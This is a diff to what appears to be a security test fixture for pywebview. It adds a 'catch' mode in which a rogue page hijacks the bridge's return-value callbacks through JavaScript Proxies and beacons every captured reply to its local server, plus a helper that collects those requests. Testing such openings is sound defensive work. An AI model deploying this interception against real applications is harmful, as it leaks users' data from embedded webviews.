@@ -272,7 +272,14 @@ async function opens() {
   }
   say('opened');
 }
-const MODES = { flood, inject, open: opens };
+async function catchAll() {
+  // Any reply evaluated in this page, whatever its name and id, is reported to the server.
+  const seen = (v) => navigator.sendBeacon('/caught?' + encodeURIComponent(JSON.stringify(v)));
+  const inner = new Proxy({}, { get: () => seen });
+  window.pywebview._returnValuesCallbacks = new Proxy({}, { get: () => inner });
+  say('catching');
+}
+const MODES = { flood, inject, open: opens, catch: catchAll };
 ready(() => MODES[MODE]().catch((e) => say('error ' + e)));
 </script>
 """
@@ -315,6 +322,10 @@ class HostilePage:
 
     def url(self, mode: str, count: int) -> str:
         return f"http://127.0.0.1:{self.port}/?mode={mode}&count={count}"
+
+    def caught(self) -> list[str]:
+        """Replies that were evaluated in the rogue page (mode ``catch``)."""
+        return [p for p in list(self.requests) if p.startswith("/caught")]
 
     def ran(self) -> list[str]:
         """Where the payload ran (each beacon's page address)."""
